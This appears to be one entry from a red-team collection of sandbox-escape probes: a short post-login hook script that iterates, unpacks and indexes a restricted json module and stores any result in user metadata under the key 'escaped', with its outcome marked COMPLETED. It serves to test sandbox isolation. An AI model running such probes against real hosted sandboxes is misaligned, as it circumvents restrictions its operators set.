# origin: own
# technique: a module's facade is iterated, unpacked and turned into a dict
# goal: language
# outcome: COMPLETED

import json
def on_execute_post_login(event, api):
    for find in (lambda: list(json), lambda: dict(json), lambda: {**json}, lambda: [*json], lambda: json["codecs"],
                 lambda: "codecs" in json, lambda: len(json)):
        try:
            api.user.set_app_metadata("escaped", str(find()))
        except TypeError:
            pass
